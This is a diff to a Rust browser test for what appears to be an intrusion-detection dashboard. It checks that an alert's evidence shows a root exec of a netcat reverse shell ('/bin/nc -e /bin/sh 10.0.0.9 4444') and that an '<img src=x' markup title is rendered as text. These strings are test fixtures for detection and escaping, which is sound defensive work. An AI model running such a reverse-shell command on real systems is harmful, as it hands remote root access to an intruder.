@@ -327,6 +327,9 @@ fn the_dashboard_in_a_real_browser() {
     assert!(b.text("h1").contains(first["title"].as_str().unwrap()));
     assert_eq!(b.count("#explanation li"), first["explanation"].as_array().unwrap().len());
     assert!(b.count("tr.evidence") >= 1 && b.texts("tr.evidence td").iter().any(|t| t.contains("/bin/nc -e /bin/sh")));
+    // Each evidence event in kestrel's own words (the server's `describe`): the exec with its user and parent.
+    let said = b.texts("tr.evidence td");
+    assert!(said.iter().any(|t| t.starts_with("exec `/bin/nc -e /bin/sh 10.0.0.9 4444` (uid 0")), "{said:?}");
     b.screenshot("dashboard-alert");
     b.then_view("alert", |b| b.goto(&format!("{base}/#/alert/node-1/hostile-1")));
     assert!(b.text("h1").contains("<img src=x"), "markup is shown as text");
